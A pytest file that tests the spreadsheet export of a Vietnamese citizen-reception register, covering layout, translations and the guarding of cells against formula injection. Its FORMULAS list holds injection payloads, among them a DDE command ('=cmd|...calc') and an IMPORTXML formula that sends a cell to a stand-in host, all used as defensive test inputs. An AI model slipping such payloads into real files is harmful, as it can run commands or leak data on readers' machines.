"""The register as a spreadsheet for any text: no formula whatever is typed, nothing lost, empty and long; heads in English."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO, StringIO

import pytest
from flask import Flask
from flask_babel import Babel, force_locale
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from core.config import ROOT
from core.text import clean_line, clean_text
from dialogue.queries.reception_register import EntryView
from dialogue.reception_sheet import CELL_MOST, DANGEROUS, MEDIA_TYPE, WIDTHS, cells, guarded, heads, height, workbook

ROW = EntryView(
    id=1, year=2026, number=12, version=1, received_on=date(2026, 12, 1), received_at=datetime(2026, 12, 1, 3, tzinfo=UTC),
    by_kind="chair", receiver="Lý Văn Dền", kind="reflection", people=1, competent=False, handling="guided", ground="",
    notice_due_on=None, day_id=7, whole=True, person_key="k", name="Hoàng Thị Mẩy", address="", identity="",
    content="Cầu treo hỏng", representatives="", settled_by="", guided_to="Công an xã", accepted_ref="", follow_up="", note="",
    case_id=None, case_code="",
)  # fmt: skip
TYPED = (
    "name",
    "address",
    "identity",
    "content",
    "representatives",
    "settled_by",
    "guided_to",
    "accepted_ref",
    "follow_up",
    "note",
)
LINE = st.text(max_size=80).map(clean_line)
FORMULAS = (
    '=cmd|"/c calc"!A1', "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "+HYPERLINK(\"http://x\")", "-2+3+cmd", "@SUM(1)",
    "＝１＋１", "＋84", "－1", "＠SUM(A1)",
)  # fmt: skip
ENGLISH_CELLS = (
    # what of the row is changed, column, cell in Vietnamese, cell in English
    ({}, 1, "12/2026", "12/2026"),
    ({"number": 3}, 1, "03/2026", "03/2026"),
    ({"number": 100, "year": 2027}, 1, "100/2027", "100/2027"),
    ({}, 2, "01/12/2026", "1 Dec 2026"),
    ({"received_on": date(2027, 2, 11)}, 2, "11/02/2027", "11 Feb 2027"),
    ({}, 3, "Hoàng Thị Mẩy", "Hoàng Thị Mẩy"),
    ({"address": "Nà Pất"}, 3, "Hoàng Thị Mẩy\nNà Pất", "Hoàng Thị Mẩy\nNà Pất"),
    ({"name": "", "address": ""}, 3, "(không ghi ở sổ này)", "(not written in this register)"),
    ({"kind": "petition"}, 6, "Kiến nghị", "Petition"),
    ({"kind": "other"}, 6, "Việc khác", "Other"),
    ({"people": 9999}, 7, "9999", "9999"),
    ({"handling": "explained"}, 13, "Giải thích, trả lời ngay", "Explained or answered at once"),
    (
        {"handling": "refused", "ground": "weapon"}, 13, "Từ chối tiếp; Mang vũ khí, chất nguy hiểm",
        "Reception refused; Carries a weapon or dangerous substance",
    ),
    (
        {"handling": "transferred", "note": "Gửi huyện"}, 13, "Chuyển cơ quan có thẩm quyền; Gửi huyện",
        "Transferred to the competent body; Gửi huyện",
    ),
)  # fmt: skip


@pytest.fixture(scope="module")
def words() -> Flask:
    """Return an application that knows both languages and nothing else."""
    app = Flask("words")
    app.config["BABEL_TRANSLATION_DIRECTORIES"] = str(ROOT / "translations")
    Babel(app, default_locale="vi")
    return app


def read(words: Flask, rows: list[EntryView], *, title: str = "SỔ TIẾP CÔNG DÂN") -> Worksheet:
    """Return the sheet of the register as a reader opens it."""
    with words.test_request_context("/"):
        made = workbook(rows, title=title)
    return load_workbook(BytesIO(made)).active


# ------------------------------------------------------------------ no formula, whatever is typed


@settings(deadline=None)
@given(st.one_of(st.text(max_size=200), st.sampled_from(DANGEROUS).flatmap(lambda sign: st.text(max_size=20).map(sign.__add__))))
def test_no_guarded_text_begins_like_a_formula_and_nothing_of_it_is_lost(text: str):
    cell = guarded(text)
    assert not cell.startswith(DANGEROUS)
    assert cell in (text, f"'{text}")
    assert guarded(cell) == cell


@pytest.mark.parametrize("begin", ["", "a", "'", *DANGEROUS])
@pytest.mark.parametrize("length", [CELL_MOST - 2, CELL_MOST - 1, CELL_MOST, CELL_MOST + 1, 100_000])
def test_no_cell_is_longer_than_what_a_spreadsheet_takes(begin: str, length: int):
    text = (begin + "x" * length)[:length]
    cell = guarded(text)
    assert len(cell) <= CELL_MOST < 32_767
    assert cell.lstrip("'") == text.lstrip("'")[: len(cell.lstrip("'"))]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_any_field_is_text_also_when_the_sheet_is_saved_as_csv(words: Flask, formula: str):
    for name in TYPED:
        with words.test_request_context("/"):
            line = [guarded(text) for text in cells(replace(ROW, **{name: formula}))]
        saved = StringIO()
        csv.writer(saved).writerow(line)
        again = next(csv.reader(StringIO(saved.getvalue())))
        assert (any(formula in text for text in again), any(text.startswith(DANGEROUS) for text in again)) == (True, False), name


def test_title_that_begins_like_a_formula_is_text_too(words: Flask):
    cell = read(words, [], title="=1+1")["A1"]
    assert (cell.value, cell.data_type) == ("'=1+1", "s")


@settings(max_examples=8, deadline=None)
@given(st.lists(LINE, min_size=len(TYPED), max_size=len(TYPED)), st.integers(1, 9999), st.booleans())
def test_whatever_was_typed_is_read_back_as_it_stands(words: Flask, texts: list[str], people: int, competent: bool):
    row = replace(ROW, people=people, competent=competent, **dict(zip(TYPED, texts, strict=True)))
    with words.test_request_context("/"):
        expected = [guarded(text) for text in cells(row)]
    line = next(read(words, [row]).iter_rows(min_row=4, max_row=4))
    assert [cell.value or "" for cell in line] == expected
    assert {cell.data_type for cell in line if cell.value} == {"s"}


# ------------------------------------------------------------------ empty, many, long


def test_empty_register_has_its_title_its_heads_and_their_numbers(words: Flask):
    sheet = read(words, [])
    assert (sheet.max_row, sheet.max_column) == (3, 13)
    assert [cell.value for cell in sheet[1]] == ["SỔ TIẾP CÔNG DÂN", *[None] * 12]
    assert [cell.value for cell in sheet[3]] == ["1", "2", "3", "4", "5", "6", "7", "8", "9", "10", "11", "12", "13"]


@pytest.mark.parametrize("number", [1, 2, 40])
def test_rows_stand_in_the_order_they_were_given(words: Flask, number: int):
    sheet = read(words, [replace(ROW, number=index) for index in range(number, 0, -1)])
    assert sheet.max_row == 3 + number
    found = [sheet.cell(row=line, column=1).value for line in range(4, sheet.max_row + 1)]
    assert found == [f"{index:02d}/2026" for index in range(number, 0, -1)]


def test_sheet_prints_on_a4_across_with_its_heads_on_every_page(words: Flask):
    sheet = read(words, [ROW])
    assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
    assert (sheet.page_setup.fitToHeight, sheet.sheet_properties.pageSetUpPr.fitToPage) == (0, True)
    assert (sheet.freeze_panes, sheet.print_title_rows) == ("A4", "$2:$3")
    assert [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLM"] == list(WIDTHS)
    assert MEDIA_TYPE == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.mark.parametrize(
    ("texts", "points"),
    [
        ([], 16.0),
        (["03/2026"], 16.0),
        (["", "", "Công Huyền Tôn Nữ Thị Ngọc Phương Thảo"], 32.0),
        (["", "", "Páo\nNà Pất\n\nSen"], 64.0),
        (["", "", "", "", "x" * 350], 160.0),
        (["", "", "", "", "x" * 40_000], 400.0),
    ],
)
def test_row_is_as_high_as_its_longest_cell_and_no_higher_than_a_page(texts: list[str], points: float):
    assert height(texts) == points


def test_every_line_under_the_title_is_ruled_and_as_high_as_its_words(words: Flask):
    sheet = read(words, [replace(ROW, content="Đường vào thôn bị sạt. " * 20)])
    assert [sheet.cell(row=line, column=13).border.top.style for line in (1, 2, 3, 4)] == [None, "thin", "thin", "thin"]
    assert [sheet.row_dimensions[line].height for line in (1, 2, 3, 4)] == [30.0, 50.0, 16.0, 208.0]
    assert [str(item) for item in sheet.merged_cells.ranges] == ["A1:M1"]
    assert sheet.oddFooter.center.text == "&P/&N"


def test_only_title_and_heads_are_bold_and_every_line_under_the_title_wraps(words: Flask):
    sheet = read(words, [ROW, ROW])
    assert [sheet.cell(row=line, column=1).font.bold for line in range(1, 6)] == [True, True, False, False, False]
    assert [bool(sheet.cell(row=line, column=1).alignment.wrap_text) for line in range(1, 6)] == [False, True, True, True, True]
    assert {cell.font.name for line in sheet.iter_rows() for cell in line if cell.value} == {"Times New Roman"}


def test_longest_matter_that_the_desk_takes_stands_whole_in_its_cell(words: Flask):
    content = clean_text("Đường vào thôn bị sạt.\n\n" + "ờ" * 4_970)
    sheet = read(words, [replace(ROW, content=content, follow_up="k" * 2_000, note="g" * 2_000)])
    assert sheet["E4"].value == content
    assert (len(sheet["L4"].value), sheet["M4"].value) == (2_000, "Hướng dẫn đến cơ quan khác; " + "g" * 2_000)


def test_group_stands_under_its_sender_one_a_line(words: Flask):
    row = replace(ROW, people=11, address="Thôn Nà Lìa", representatives="Hoàng Thị Mẩy\nTriệu Văn Sính\nLý Thị Hoa")
    sheet = read(words, [row])
    assert sheet["C4"].value.split("\n") == ["Hoàng Thị Mẩy", "Thôn Nà Lìa", "Hoàng Thị Mẩy", "Triệu Văn Sính", "Lý Thị Hoa"]
    assert sheet["G4"].value == "11"


def test_identity_number_keeps_its_zero_at_the_beginning(words: Flask):
    sheet = read(words, [replace(ROW, identity="020081001234")])
    assert (sheet["D4"].value, sheet["D4"].data_type) == ("020081001234", "s")


@pytest.mark.parametrize(("changes", "column", "vietnamese", "english"), ENGLISH_CELLS)
def test_cell_is_read_in_both_languages(words: Flask, changes: dict, column: int, vietnamese: str, english: str):
    row = replace(ROW, **changes)
    with words.test_request_context("/"):
        assert cells(row)[column - 1] == vietnamese
        with force_locale("en"):
            assert cells(row)[column - 1] == english


def test_heads_are_thirteen_different_words_in_english_too(words: Flask):
    with words.test_request_context("/"), force_locale("en"):
        english = heads()
    assert english[:5] == ["No.", "Date", "Name, address", "Identity number", "Content"]
    assert english[6:] == [
        "People", "Body that has settled it", "Competent", "Guided to", "Accepted, or number of the transfer", "Follow-up",
        "Note",
    ]  # fmt: skip
    assert len(set(english)) == len(WIDTHS) == 13
